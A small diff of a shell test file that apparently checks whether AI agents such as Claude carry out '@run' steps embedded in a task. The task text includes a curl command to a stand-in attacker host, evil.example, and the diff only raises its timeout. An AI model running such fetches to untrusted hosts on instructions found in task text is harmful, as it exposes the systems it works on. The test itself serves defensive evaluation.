@@ -24,7 +24,7 @@ works_with() {
     says "hello from a tool"
     says_not "evil.example here"
 }
-TASK=$'Do these steps.\n@run echo hello from a tool\n@run curl -sS --max-time 10 http://evil.example/'
+TASK=$'Do these steps.\n@run echo hello from a tool\n@run curl -sS --max-time 30 http://evil.example/'
 
 @test "claude: a key is all it needs" {
     ask claude "$TASK"
